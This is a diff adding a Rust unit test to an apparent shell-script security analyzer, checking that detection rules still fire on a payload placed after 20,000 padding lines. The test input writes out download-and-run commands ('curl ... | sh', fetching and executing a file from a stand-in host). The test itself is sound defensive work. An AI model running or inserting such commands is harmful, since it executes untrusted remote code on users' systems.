@@ -492,3 +492,14 @@ fn never_panics_on_hostile_input() {
     };
     assert!(analyze("curl x | sh", &past).is_empty());
 }
+
+#[test]
+fn payload_after_padding_is_found() {
+    // Batching (model::build_each) must not drop the tail of a long script, and state carries over.
+    let mut t = "curl -o /tmp/u https://x.example/u\n".to_string();
+    t.push_str(&":\n".repeat(20_000));
+    t.push_str("/tmp/u\ncurl -s https://x.example/i | sh\n");
+    let h = hits(&t);
+    assert_eq!(one(&h, "SH-005").line, 20_002);
+    assert_eq!(one(&h, "SH-001").line, 20_003);
+}
